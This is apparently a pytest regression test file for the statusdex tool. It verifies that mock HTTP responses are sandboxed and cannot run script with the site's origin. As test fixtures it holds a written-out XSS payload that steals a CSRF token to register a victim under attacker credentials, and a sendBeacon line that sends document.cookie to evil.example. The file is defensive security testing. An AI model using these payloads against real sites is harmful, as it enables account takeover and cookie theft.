"""Finding 1: a mock answer shaped by a link runs no script with the site's origin.

The attack from the report: a link to ``/200?content_type=text/html&body=<script>…`` on the
site itself. The script read the CSRF token from ``/learn/api/session`` and registered the
visitor's anonymous progress under the attacker's username and password. Every mock answer
inside ``statusdex serve`` is now a sandboxed document with an opaque origin (mock.policy).
"""

from __future__ import annotations

import json
import secrets
import time
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest

from tests.conftest import Server

PASSWORD = "correct horse battery staple"
STEAL = """<!doctype html><title>waiting</title><script>
(async () => {
  const session = await (await fetch('/learn/api/session')).json();
  const answer = await fetch('/learn/api/register', {
    method: 'POST',
    headers: {'content-type': 'application/json', 'x-csrf-token': session.csrf},
    body: JSON.stringify(CREDENTIALS),
  });
  document.title = 'registered ' + answer.status;
})();
</script>"""


def _login(site: Server, username: str, password: str) -> int:
    """The attacker, from elsewhere, tries the credentials the script would have planted."""
    with httpx.Client(base_url=site.url, timeout=10) as c:
        csrf = c.get("/learn/api/session").json()["csrf"]
        body = {"username": username, "password": password}
        return c.post("/learn/api/login", json=body, headers={"x-csrf-token": csrf}).status_code


def test_a_mock_page_cannot_register_the_visitor_to_the_attacker(
    site: Server, context: Any
) -> None:
    username = "attacker-" + secrets.token_hex(4)
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text))
    page.goto(site.url + "/learn")  # the victim plays anonymously: the site gives a cookie
    body = STEAL.replace("CREDENTIALS", json.dumps({"username": username, "password": PASSWORD}))
    page.goto(site.url + "/200?" + urlencode({"content_type": "text/html", "body": body}))
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:  # until the script ran, or Chromium said it was blocked
        if page.title() != "waiting" or any("Blocked script execution" in m for m in console):
            break
        page.wait_for_timeout(100)
    assert page.title() == "waiting"
    assert any("sandboxed" in m and "allow-scripts" in m for m in console), console
    assert _login(site, username, PASSWORD) == 401
    session = context.request.get(site.url + "/learn/api/session").json()
    assert session["anonymous"] is True
    assert session["username"] is None


# Every kind of answer the mock gives inside serve: plain, cached fast path, options, waits,
# drips, redirects, echo, its own problems (400, 403, 404 page excluded: that one is the web's).
SANDBOXED = [
    ("GET", "/200", {}),
    ("GET", "/404", {}),  # twice: the second one comes from the fast-path cache
    ("GET", "/404", {}),
    ("HEAD", "/503", {}),
    ("GET", "/200?content_type=text/html&body=%3Cb%3Ehi%3C/b%3E", {}),
    ("GET", "/200?sleep=1ms", {}),
    ("GET", "/200?drip=10ms", {}),
    ("GET", "/302", {}),
    ("GET", "/redirect/2", {}),
    ("GET", "/delay/0", {}),
    ("GET", "/status/200,201?seed=a", {}),
    ("GET", "/403.14", {"accept": "text/html"}),
    ("GET", "/600", {}),
    ("GET", "/101", {}),
    ("OPTIONS", "/200", {"access-control-request-method": "PUT", "origin": "http://x.test"}),
]


@pytest.mark.parametrize(("method", "path", "headers"), SANDBOXED)
def test_every_mock_answer_is_a_sandboxed_document(
    http: httpx.Client, method: str, path: str, headers: dict[str, str]
) -> None:
    r = http.request(method, path, headers=headers)
    policies = [p.strip().lower() for p in r.headers.get_list("content-security-policy")]
    assert "sandbox" in policies, (r.status_code, dict(r.headers))
    assert r.headers.get_list("x-content-type-options") == ["nosniff"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("sec-fetch-dest", "script"),
        ("sec-fetch-dest", "serviceworker"),
        ("sec-fetch-dest", "worker"),
        ("sec-fetch-dest", "style"),
        ("service-worker", "script"),
    ],
)
def test_a_mock_answer_is_never_a_script_or_stylesheet_of_the_site(
    http: httpx.Client, field: str, value: str
) -> None:
    # What a browser sends when a page (or a service worker registration) loads the URL as
    # code: refused before the body and Content-Type a link asked for are ever sent.
    query = {"body": "navigator.sendBeacon('//evil.example/'+document.cookie)"}
    query["content_type"] = "text/javascript"
    for path in ("/404", "/200"):
        r = http.get(path, params=query if path == "/200" else None, headers={field: value})
        assert r.status_code == 403, (path, r.status_code)
        assert r.headers["x-statusdex-mock-error"] == "refused"
        assert "sendBeacon" not in r.text


def test_the_delay_echo_does_not_repeat_the_sites_cookies(
    http: httpx.Client, mock_alone: Server
) -> None:
    # The learner cookie is HttpOnly; an echo in a body would make it readable after all.
    cookie = {"cookie": "statusdex_learner=" + "s" * 43}
    echoed = http.get("/delay/0", headers={**cookie, "x-probe": "1"}).json()["headers"]
    assert echoed["X-Probe"] == "1"
    assert "Cookie" not in echoed
    # statusdex mock alone keeps httpbin's full echo: it has no site cookies to hide.
    alone = httpx.get(mock_alone.url + "/delay/0", headers=cookie, timeout=10).json()["headers"]
    assert alone["Cookie"] == cookie["cookie"]
